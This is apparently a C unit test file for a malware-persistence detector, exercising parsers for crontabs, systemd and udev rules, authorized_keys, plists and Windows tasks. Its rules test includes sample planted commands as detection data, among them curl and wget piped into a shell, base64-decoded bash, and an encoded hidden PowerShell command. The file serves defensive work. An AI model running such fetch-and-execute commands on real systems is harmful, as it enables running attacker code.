/*
 * test_persist.c - the persistence readers and rules
 * (detect/persist_parse.h): crontab fields, unit keys and continuation
 * lines, udev assignments, authorized_keys options, XML and binary
 * property lists (the binary one written by hand here, byte for byte),
 * UTF-16LE tasks, and what pst_judge says of commands benign and
 * planted.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "detect/persist_parse.h"

static struct pst_list L;

static unsigned judge(const char *cmd, const char *prog, unsigned flags,
                      struct pst_judged *j)
{
    struct pst_entry e = { .cmd = cmd, .prog = prog, .flags = flags };
    pst_judge(&e, j);
    return j->flags & PST_F_SUSPICIOUS;
}

static void crontab(void **state)
{
    (void)state;
    const char *t = "MAILTO=\"\"\n# c\n@reboot /tmp/.x/update >/dev/null\n"
                    "*/5 1 * * 1-5 echo a%b\\%c\n  \n";
    pst_list_init(&L);
    pst_crontab(t, strlen(t), false, &L);
    assert_int_equal(L.n, 2);
    assert_string_equal(L.e[0].cmd, "/tmp/.x/update >/dev/null");
    assert_int_equal(L.e[0].line, 3);
    assert_true(L.e[0].flags & PST_E_REBOOT);
    assert_string_equal(L.e[1].cmd, "echo a");
    const char *s = "17 * * * * root cd / && run-parts /etc/cron.hourly\n"
                    "@daily nobody /usr/bin/x\n";
    pst_list_init(&L);
    pst_crontab(s, strlen(s), true, &L);
    assert_int_equal(L.n, 2);
    assert_string_equal(L.e[0].cmd, "cd / && run-parts /etc/cron.hourly");
    assert_string_equal(L.e[1].cmd, "/usr/bin/x");
}

static void keyvals(void **state)
{
    (void)state;
    const char *u = "[Service]\nConditionPathExists=!/etc/x\n"
                    "ExecStart=/usr/bin/a \\\n  -b\nExecStartPre=-/bin/p\n"
                    "Environment=ExecStart=/tmp/no\n";
    pst_list_init(&L);
    pst_keyvals(u, strlen(u), PST_KV_UNIT, &L);
    assert_int_equal(L.n, 3);
    assert_true(L.e[0].flags & PST_E_COND);
    assert_string_equal(L.e[0].cmd, "/etc/x");
    assert_string_equal(L.e[1].cmd, "/usr/bin/a    -b");
    assert_string_equal(L.e[2].cmd, "-/bin/p");
    const char *r = "ACTION==\"add\", RUN+=\"/tmp/x a\", "
                    "RUN{builtin}+=\"kmod load\", PROGRAM=\"/bin/id\"\n";
    pst_list_init(&L);
    pst_keyvals(r, strlen(r), PST_KV_UDEV, &L);
    assert_int_equal(L.n, 2);
    assert_string_equal(L.e[0].cmd, "/tmp/x a");
    assert_string_equal(L.e[1].cmd, "/bin/id");
    const char *k = "command=\"/tmp/.k/r \\\"a\\\"\",no-pty ssh-ed25519 A x\n"
                    "ssh-rsa AAAA command=\"not an option\"\n";
    pst_list_init(&L);
    pst_authkeys(k, strlen(k), &L);
    assert_int_equal(L.n, 1);
    assert_string_equal(L.e[0].cmd, "/tmp/.k/r \\\"a\\\"");
}

/* A binary plist of {Label: "L", Program: "/tmp/p", RunAtLoad: true},
 * written out by hand: objects, offset table, trailer. */
static void bplist(void **state)
{
    (void)state;
    uint8_t b[128];
    size_t n = 0, off[7];
    memcpy(b, "bplist00", 8);
    n = 8;
    off[0] = n;                      /* dict of 3: keys 1,2,3 values 4,5,6 */
    b[n++] = 0xd3;
    for(uint8_t i = 1; i <= 6; i++)
        b[n++] = i;
    const char *s[] = { "Label", "Program", "RunAtLoad", "L", "/tmp/p" };
    for(int i = 0; i < 5; i++) {
        off[i + 1] = n;
        b[n++] = (uint8_t)(0x50 | strlen(s[i]));
        memcpy(b + n, s[i], strlen(s[i]));
        n += strlen(s[i]);
    }
    /* object 4 is "L", 5 is "/tmp/p"; the dict's values are 4, 5, 6 */
    off[6] = n;
    b[n++] = 0x09;                   /* true */
    size_t table = n;
    for(int i = 0; i < 7; i++)
        b[n++] = (uint8_t)off[i];
    memset(b + n, 0, 32);
    b[n + 6] = 1;                    /* offset size */
    b[n + 7] = 1;                    /* reference size */
    b[n + 15] = 7;                   /* objects */
    b[n + 23] = 0;                   /* top */
    b[n + 31] = (uint8_t)table;
    n += 32;
    pst_list_init(&L);
    assert_true(pst_plist(b, n, &L));
    assert_int_equal(L.n, 1);
    assert_string_equal(L.e[0].prog, "/tmp/p");
    assert_true(L.e[0].flags & PST_E_AT_LOAD);
    assert_string_equal(L.label, "L");
    /* a reference past the object count: refused, nothing read */
    b[table] = 0xff;
    pst_list_init(&L);
    assert_false(pst_plist(b, n, &L));
    assert_int_equal(L.n, 0);
}

static void xml_plist(void **state)
{
    (void)state;
    const char *x =
        "<?xml version=\"1.0\"?><!DOCTYPE plist><plist><dict>"
        "<key>EnvironmentVariables</key><dict><key>Program</key>"
        "<string>/decoy</string></dict><!-- <key>Program</key> -->"
        "<key>Label</key><string>com.apple.a&amp;b</string>"
        "<key>ProgramArguments</key><array><string>/bin/sh</string>"
        "<string>-c</string><string>/tmp/x &amp;&#38; y</string></array>"
        "<key>KeepAlive</key><dict><key>SuccessfulExit</key><false/></dict>"
        "</dict></plist>";
    pst_list_init(&L);
    assert_true(pst_plist((const uint8_t *)x, strlen(x), &L));
    assert_int_equal(L.n, 1);
    assert_string_equal(L.e[0].prog, "/bin/sh");
    assert_string_equal(L.e[0].cmd, "/bin/sh -c \"/tmp/x && y\"");
    assert_true(L.e[0].flags & PST_E_AT_LOAD);
    assert_string_equal(L.label, "com.apple.a&b");
    struct pst_judged j;
    pst_judge(&L.e[0], &j);
    assert_true(j.flags & PST_F_TEMP);
    assert_string_equal(j.target, "/tmp/x");
}

static void task(void **state)
{
    (void)state;
    const char *t = "<Task><Settings><Enabled>false</Enabled>"
                    "<Hidden>true</Hidden></Settings>"
                    "<Exec><Command>\"C:\\Program Files\\a.exe\"</Command>"
                    "<Arguments>-x</Arguments></Exec><ComHandler><ClassId>"
                    "{1}</ClassId></ComHandler></Task>";
    uint8_t u[1024];
    size_t n = 2;
    u[0] = 0xff;
    u[1] = 0xfe;
    for(size_t i = 0; t[i]; i++) {
        u[n++] = (uint8_t)t[i];
        u[n++] = 0;
    }
    pst_list_init(&L);
    assert_true(pst_task(u, n, &L));
    assert_true(L.disabled);
    assert_true(L.hidden);
    assert_int_equal(L.n, 2);
    assert_string_equal(L.e[0].prog, "C:\\Program Files\\a.exe");
    assert_string_equal(L.e[0].cmd, "\"C:\\Program Files\\a.exe\" -x");
    assert_true(L.e[1].flags & PST_E_COM);
    pst_list_init(&L);
    assert_false(pst_task((const uint8_t *)"<html/>", 7, &L));
}

static void rules(void **state)
{
    (void)state;
    struct pst_judged j;
    /* benign */
    assert_false(judge("test -x /usr/sbin/anacron || ( cd / && run-parts "
                       "--report /etc/cron.daily )", NULL, 0, &j));
    assert_false(judge("/usr/sbin/sshd -D $SSHD_OPTS", NULL, 0, &j));
    assert_false(judge(". \"$HOME/.cargo/env\"", NULL, PST_E_SHELL, &j));
    assert_false(judge("mkdir -p /tmp/.X11-unix", NULL, PST_E_SHELL, &j));
    assert_false(judge("\"C:\\Program Files (x86)\\Google\\Update\\"
                       "GoogleUpdate.exe\" /c", "C:\\Program Files (x86)\\"
                       "Google\\Update\\GoogleUpdate.exe", 0, &j));
    assert_false(judge("/Applications/X.app/Contents/MacOS/X", NULL, 0, &j));
    /* planted */
    assert_int_equal(judge("/tmp/.x/update", NULL, PST_E_REBOOT, &j),
                     PST_F_TEMP | PST_F_HIDDEN | PST_F_UPDATER);
    assert_string_equal(j.place, "/tmp");
    assert_string_equal(j.hidden, "/tmp/.x");
    assert_int_equal(judge("curl -fsSL http://h/k.sh | sh", NULL, 0, &j),
                     PST_F_DOWNLOAD);
    assert_string_equal(j.url, "http://h/k.sh");
    assert_true(judge("sh -c \"$(wget -qO- http://h/x)\"", NULL, 0, &j) &
                PST_F_DOWNLOAD);
    assert_true(judge("echo aGk= | base64 -d | bash", NULL, 0, &j) &
                PST_F_DECODE);
    assert_true(judge("powershell -w hidden -enc SQBFAFgA", NULL, 0, &j) &
                PST_F_DECODE);
    assert_true(judge("nohup bash /dev/shm/a.sh &", NULL, PST_E_SHELL, &j) &
                PST_F_TEMP);
    assert_string_equal(j.target, "/dev/shm/a.sh");
    assert_true(judge("/bin/sh -c 'sleep 1; /var/tmp/k'", NULL, 0, &j) &
                PST_F_TEMP);
    assert_true(judge("C:\\ProgramData\\SystemData\\igfxCUIService.exe",
                      "C:\\ProgramData\\SystemData\\igfxCUIService.exe", 0,
                      &j) & PST_F_DATADIR);
    assert_true(judge("rundll32 %APPDATA%\\a.dll,Run", NULL, 0, &j) &
                PST_F_DATADIR);
    assert_true(judge("/Users/a/Library/MacOsServices/updateMacOs", NULL, 0,
                      &j) & PST_F_UPDATER);
    assert_true(judge("/home/u/bin/SystemUpdate.sh", NULL, 0, &j) &
                PST_F_UPDATER);
    /* a vendor's updater in a home folder is the vendor's */
    assert_false(judge("/Users/a/Library/Google/GoogleSoftwareUpdate/"
                       "GoogleSoftwareUpdate.bundle/Contents/MacOS/"
                       "GoogleSoftwareUpdateAgent", NULL, 0, &j));
    assert_false(judge("/home/u/.dropbox-dist/dropboxd", NULL, 0, &j));
    assert_true(judge("-/home/u/.cache/.k/x", NULL, 0, &j) & PST_F_HIDDEN);
    assert_true(j.optional);
}

static void matching(void **state)
{
    (void)state;
    assert_true(pst_match("/etc/cron.d/*", "/etc/cron.d/x", false));
    assert_false(pst_match("/etc/cron.d/*", "/etc/cron.d/a/b", false));
    assert_false(pst_match("/etc/cron.d/*", "/etc/cron.d/", false));
    assert_true(pst_match("/etc/systemd/system/**",
                          "/etc/systemd/system/a.wants/b.service", false));
    assert_false(pst_match("/etc/systemd/system/**", "/etc/systemd/system",
                           false));
    assert_true(pst_match("/Windows/System32/Tasks/**",
                          "/WINDOWS/system32/tasks/Microsoft/x", true));
    assert_false(pst_match("/Windows/System32/Tasks/**",
                           "/WINDOWS/system32/tasks/Microsoft/x", false));
    assert_true(pst_win_exec_name("dwm.EXE"));
    assert_false(pst_win_exec_name("desktop.ini"));
}

/* A length-prefixed UTF-16LE string of ASCII s at b+o: the new offset. */
static size_t put_bstr(uint8_t *b, size_t o, const char *s)
{
    size_t l = strlen(s);
    b[o] = (uint8_t)(2 * l);
    b[o + 1] = b[o + 2] = b[o + 3] = 0;
    o += 4;
    for(size_t i = 0; i < l; i++) {
        b[o++] = (uint8_t)s[i];
        b[o++] = 0;
    }
    return o;
}

static void task_actions(void **state)
{
    (void)state;
    uint8_t b[512];
    size_t o = 0;
    b[o++] = 3;
    b[o++] = 0;
    o = put_bstr(b, o, "Author");
    b[o++] = 0x66;   /* Exec */
    b[o++] = 0x66;
    o = put_bstr(b, o, "");
    o = put_bstr(b, o, "C:\\Program Files\\x.exe");
    o = put_bstr(b, o, "-a");
    o = put_bstr(b, o, "C:\\");
    b[o++] = 0;
    b[o++] = 0;
    b[o++] = 0x77;   /* COM handler */
    b[o++] = 0x77;
    o = put_bstr(b, o, "id");
    static const uint8_t g[16] = { 0x78, 0x56, 0x34, 0x12, 0x34, 0x12,
                                   0x78, 0x56, 0x9a, 0xbc, 1, 2, 3, 4, 5,
                                   6 };
    memcpy(b + o, g, 16);
    o += 16;
    o = put_bstr(b, o, "data");
    pst_list_init(&L);
    assert_true(pst_task_actions(b, o, &L));
    assert_int_equal(L.n, 2);
    assert_string_equal(L.e[0].cmd, "\"C:\\Program Files\\x.exe\" -a");
    assert_string_equal(L.e[0].prog, "C:\\Program Files\\x.exe");
    assert_string_equal(L.e[1].cmd, "{12345678-1234-5678-9ABC-010203040506}");
    assert_true(L.e[1].flags & PST_E_COM);
    /* every cut of it: no read past the end, the entries before kept */
    for(size_t cut = 0; cut < o; cut++) {
        uint8_t *c = malloc(cut ? cut : 1);
        assert_non_null(c);
        memcpy(c, b, cut);
        pst_list_init(&L);
        (void)pst_task_actions(c, cut, &L);
        assert_true(L.n <= 2);
        free(c);
    }
    /* a string length past the end */
    static const uint8_t bad[] = { 1, 0, 0x66, 0x66, 0xff, 0xff, 0xff, 0xff };
    pst_list_init(&L);
    assert_false(pst_task_actions(bad, sizeof(bad), &L));
    assert_int_equal(L.n, 0);
}

static void expand(void **state)
{
    (void)state;
    char d[256];
    pst_expand("%APPDATA%\\a.exe %x% %SystemRoot%\\b", "ann", d, sizeof(d));
    assert_string_equal(d, "C:\\Users\\ann\\AppData\\Roaming\\a.exe %x% "
                           "C:\\Windows\\b");
    pst_expand("%temp%\\t %ProgramData%", NULL, d, sizeof(d));
    assert_string_equal(d, "%temp%\\t C:\\ProgramData");
    pst_expand("%LOCALAPPDATA%\\q", "bob", d, 12);
    assert_string_equal(d, "C:\\Users\\bo");
    pst_expand("50%", "bob", d, sizeof(d));
    assert_string_equal(d, "50%");
}

static void marvin(void **state)
{
    (void)state;
    /* the .NET runtime's published vectors */
    assert_true(pst_marvin32((const uint8_t *)"", 0, 0x004FB61A001BDBCCull) ==
                0x30ED35C100CD3C7Dull);
    assert_true(pst_marvin32((const uint8_t *)"\xaf", 1,
                             0x004FB61A001BDBCCull) == 0x48E73FC77D75DDC1ull);
    assert_true(pst_marvin32((const uint8_t *)"\x37\xf4\x95", 3,
                             0x004FB61A001BDBCCull) == 0xF0B07C789B8CF7E8ull);
    assert_true(pst_marvin32((const uint8_t *)"abc", 3,
                             0xD53CD9CECD0893B7ull) == 0x22C74339492769BFull);
    /* a clean hive is not replayed */
    static uint8_t h[4096];
    size_t n = 1;
    unsigned a = 1;
    memcpy(h, "regf", 4);
    assert_null(pst_hive_replay(h, sizeof(h), NULL, NULL, 0, &n, &a));
    assert_int_equal(n, 0);
    assert_int_equal(a, 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(crontab),
        cmocka_unit_test(keyvals),
        cmocka_unit_test(bplist),
        cmocka_unit_test(xml_plist),
        cmocka_unit_test(task),
        cmocka_unit_test(rules),
        cmocka_unit_test(matching),
        cmocka_unit_test(task_actions),
        cmocka_unit_test(expand),
        cmocka_unit_test(marvin),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
